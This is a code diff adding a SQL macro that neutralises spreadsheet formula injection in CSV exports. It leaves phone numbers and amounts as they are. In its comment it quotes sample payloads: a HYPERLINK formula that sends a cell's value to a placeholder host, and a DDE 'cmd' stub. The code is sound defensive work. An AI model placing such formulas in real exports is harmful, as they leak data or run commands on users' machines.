@@ -213,3 +213,17 @@ CREATE OR REPLACE TEMP MACRO phone_key(x) AS
 -- one record; NULL for no value.
 CREATE OR REPLACE TEMP MACRO term_frequency(value, n_value, n_any) AS
     CASE WHEN value IS NOT NULL THEN greatest(n_value - 1, 1) / greatest(n_any - 1, 1) END;
+
+-- Text a spreadsheet shows as text, never runs as a formula (formula or CSV injection): text
+-- starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe, so
+-- '=HYPERLINK("http://x?"&A1)' and '+cmd|...' are read as text. Text of digits and the
+-- separators of a phone or an amount only ('+39 347 123 4567', '-12.50') is left as it is:
+-- it names no function or command to run. helpers.exports applies it to every text column
+-- of the CSV exports; numbers are never text, so a negative amount stays a number.
+CREATE OR REPLACE TEMP MACRO spreadsheet_safe(x) AS
+    CASE
+        WHEN left(x, 1) IN ('=', '+', '-', '@', chr(9), chr(13))
+             AND NOT regexp_full_match(x, '[0-9 +().,/-]+')
+            THEN '''' || x
+        ELSE x
+    END;
